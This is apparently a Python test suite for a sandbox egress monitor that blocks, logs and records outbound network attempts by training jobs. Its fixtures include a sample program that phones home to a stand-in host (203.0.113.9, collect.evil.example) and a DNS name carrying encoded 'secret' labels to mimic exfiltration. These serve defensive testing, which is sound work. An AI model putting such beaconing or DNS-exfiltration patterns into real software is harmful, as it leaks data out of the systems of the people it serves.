"""Attempts on their way into the log and the ledger."""

from __future__ import annotations

import json
from dataclasses import asdict
from typing import TYPE_CHECKING, Any

from usina.core.errors import UnavailableError
from usina.engine.jobs.egress import NOTE, Egress, Owner
from usina.engine.sandbox.attempts import FILE, FOLDER, Attempt

if TYPE_CHECKING:
    from pathlib import Path

    from tests.engine.jobs.site import JobSite

OWNER = Owner(
    "111122223333", "arn:aws:sagemaker:us-east-1:111122223333:training-job/x", "arn:aws:iam::111122223333:role/r"
)
PHONES = """
import socket
for port in (443, 443, 80):
    try: socket.create_connection(("203.0.113.9", port), 20)
    except OSError: pass
try: socket.getaddrinfo("collect.evil.example", 443)
except OSError: print("no name")
"""


class Told:
    """A log and a ledger in lists; the ledger may be out of order."""

    def __init__(self) -> None:
        self.lines: list[str] = []
        self.notes: list[dict[str, Any]] = []
        self.broken = False

    async def say(self, text: str) -> None:
        self.lines.append(text)

    async def note(self, kind: str, body: dict[str, Any]) -> int:
        if self.broken:
            raise UnavailableError("the ledger cannot be written")
        assert kind == NOTE
        self.notes.append(body)
        return len(self.notes)

    def egress(self, folder: Path) -> Egress:
        return Egress(folder, OWNER, self.say, self)


def attempt(number: int = 1, count: int = 1, **changes: Any) -> Attempt:
    return Attempt(**({**asdict(Attempt("tcp", f"10.0.0.{number}", 80, "", count, 1.0, 2.0)), **changes}))


def write(folder: Path, *attempts: Attempt) -> None:
    (folder / FOLDER).mkdir(exist_ok=True)
    (folder / FOLDER / FILE).write_text("".join(json.dumps(asdict(each)) + "\n" for each in attempts))


async def test_a_destination_is_told_when_it_is_seen_and_its_count_at_the_end(tmp_path: Path) -> None:
    told = Told()
    egress = told.egress(tmp_path)
    await egress.look()
    assert not told.lines
    write(tmp_path, attempt())
    for now in (100.0, 100.1, 100.9, 101.1):
        await egress.at(now)
    assert len(told.lines) == 1
    assert told.lines[0].startswith("Stopped: the program tried to reach 10.0.0.1:80 by TCP. Programs reach")
    assert told.notes == [
        {
            "account": "111122223333",
            "resource": OWNER.arn,
            "role": OWNER.role,
            "protocol": "tcp",
            "destination": "10.0.0.1",
            "port": 80,
            "count": 1,
        }
    ]
    write(tmp_path, attempt(count=9))
    await egress.look()
    await egress.finish()
    assert [note["count"] for note in told.notes] == [1, 9]
    assert told.lines[1:] == ["9 attempts to reach 1 destination were stopped in all."]


async def test_a_factory_that_starts_again_tells_nothing_twice(tmp_path: Path) -> None:
    write(tmp_path, attempt(count=5))
    first, second = Told(), Told()
    await first.egress(tmp_path).look()
    await second.egress(tmp_path).look()
    assert (len(first.notes), second.notes, second.lines) == (1, [], [])


async def test_what_a_program_can_make_the_ledger_and_the_log_keep_is_bounded(tmp_path: Path) -> None:
    write(tmp_path, *(attempt(number % 250, 2, port=number) for number in range(256)), attempt(0, 7, protocol="other"))
    told = Told()
    egress = told.egress(tmp_path)
    await egress.look()
    await egress.finish()
    await egress.finish()
    assert len(told.notes) == 33
    assert (told.notes[-1]["protocol"], told.notes[-1]["count"]) == ("other", 2 * 224 + 7)
    assert told.lines[32] == "519 attempts to reach more than 256 destinations were stopped in all."


async def test_a_name_goes_into_the_ledger_by_its_end_alone(tmp_path: Path) -> None:
    stolen = "c2VjcmV0." * 5
    write(tmp_path, attempt(protocol="dns", port=53, name=f"{stolen}evil.example.com"))
    told = Told()
    await told.egress(tmp_path).look()
    assert told.notes[0]["destination"] == "*.evil.example.com"


async def test_what_the_ledger_does_not_take_is_told_later(tmp_path: Path) -> None:
    write(tmp_path, attempt())
    told = Told()
    told.broken = True
    egress = told.egress(tmp_path)
    await egress.look()
    assert (told.notes, told.lines) == ([], [])
    told.broken = False
    await egress.look()
    assert (len(told.notes), len(told.lines)) == (1, 1)


async def test_a_job_that_phones_home_is_stopped_from_it_and_ends_as_it_decides(site: JobSite) -> None:
    told = Told()
    site.notes = told
    jobs = await site.open()
    await site.create(jobs, PHONES)
    seen = await site.until_over()
    assert seen["status"] == "Completed"
    lines = "\n".join(site.logs.text("job"))
    assert "no name" in lines
    await jobs.stop()
    if site.sandbox.isolation.unrecorded:
        return
    assert "tried to reach 203.0.113.9:443 by TCP" in lines  # how often, is told when it is known: at the end
    assert "tried to reach the name collect.evil.example" in lines
    found = {(note["protocol"], note["destination"], note["port"]): note["count"] for note in told.notes}
    assert found["tcp", "203.0.113.9", 443] == 2
    assert found["tcp", "203.0.113.9", 80] == 1
    assert ("dns", "collect.evil.example", 53) in found
    assert {note["resource"] for note in told.notes} == {OWNER.arn.replace("/x", "/job")}
